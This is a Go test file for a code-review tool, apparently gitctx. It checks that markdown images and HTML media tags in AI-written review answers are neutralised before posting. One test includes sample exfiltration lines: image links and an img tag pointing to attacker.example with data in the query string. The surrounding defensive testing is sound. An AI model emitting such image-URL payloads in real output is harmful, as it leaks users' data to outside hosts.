package review

import (
	"context"
	"strings"
	"testing"

	"github.com/gitctx/gitctx/secrets"
)

func TestQuietImages(t *testing.T) {
	const z = "\u200b"
	for _, tt := range []struct{ in, want string }{
		{"see ![chart](https://example.com/x.png?q=data)", "see !" + z + "[chart](https://example.com/x.png?q=data)"},
		{"![][ref]\n\n[ref]: https://example.com/a.png", "!" + z + "[][ref]\n\n[ref]: https://example.com/a.png"},
		{`<img src="https://example.com/?q=1">`, `&lt;img src="https://example.com/?q=1">`},
		{`<IMG SRC=x> and <picture><source srcset="y"></picture>`, `&lt;IMG SRC=x> and &lt;picture>&lt;source srcset="y"></picture>`},
		{`<video poster="p.png"></video> <iframe src="z">`, `&lt;video poster="p.png"></video> &lt;iframe src="z">`},
		{"a [link](https://example.com) stays", "a [link](https://example.com) stays"},
		{"<details><summary>more</summary></details> <imgx>", "<details><summary>more</summary></details> <imgx>"},
		{"the `![x](y)` syntax", "the `![x](y)` syntax"},
		{"```md\n![x](https://example.com/y.png)\n```", "```md\n![x](https://example.com/y.png)\n```"},
		{"```json\n{\"findings\": [{\"body\": \"![x](https://e.com/?s=1)\"}]}\n```", "```json\n{\"findings\": [{\"body\": \"!" + z + "[x](https://e.com/?s=1)\"}]}\n```"},
	} {
		if got := quietImages(tt.in); got != tt.want {
			t.Errorf("quietImages(%q)\n got %q\nwant %q", tt.in, got, tt.want)
		}
	}
}

// TestSanitiseQuietsImages checks that the answer gitctx saves and posts,
// and the inline findings parsed from it, load no image.
func TestSanitiseQuietsImages(t *testing.T) {
	answer := "Looks fine. ![ok](https://attacker.example/?d=secretish)\n\n```json\n" +
		`{"findings": [{"path": "a.go", "line": 1, "side": "RIGHT", "severity": "info", "title": "t", "body": "<img src=\"https://attacker.example/?d=x\">"}]}` +
		"\n```\n"
	gate, err := secrets.New(secrets.Options{})
	if err != nil {
		t.Fatal(err)
	}
	clean, _, err := Sanitise(context.Background(), gate, answer)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(clean, "![") || strings.Contains(clean, "<img") {
		t.Errorf("the answer still loads an image:\n%s", clean)
	}
	fs := ParseFindings(clean)
	if len(fs) != 1 || strings.Contains(fs[0].Body, "<img") || !strings.Contains(fs[0].Body, "&lt;img") {
		t.Errorf("findings %+v, want one whose body loads no image", fs)
	}
}

// FuzzQuietImages: quieting only ever inserts zero-width spaces between
// ! and [ and turns the < of a media tag into &lt;, and leaves no image in
// prose.
func FuzzQuietImages(f *testing.F) {
	for _, s := range []string{"![a](b)", "```go\n![x](y)\n```\n![z](w)", "`![a](b)` <img src=x>", "<Picture><source>", "!![[", "<img"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		if strings.Contains(in, "\u200b") || strings.Contains(in, "&lt;") {
			return
		}
		out := quietImages(in)
		back := strings.ReplaceAll(strings.ReplaceAll(out, "!\u200b[", "!["), "&lt;", "<")
		if back != in {
			t.Fatalf("quietImages(%q) = %q: more changed than images", in, out)
		}
		if !strings.ContainsAny(in, "`~") && (strings.Contains(out, "![") || mediaTag.MatchString(out)) {
			t.Fatalf("quietImages(%q) = %q: an image is left in prose", in, out)
		}
	})
}
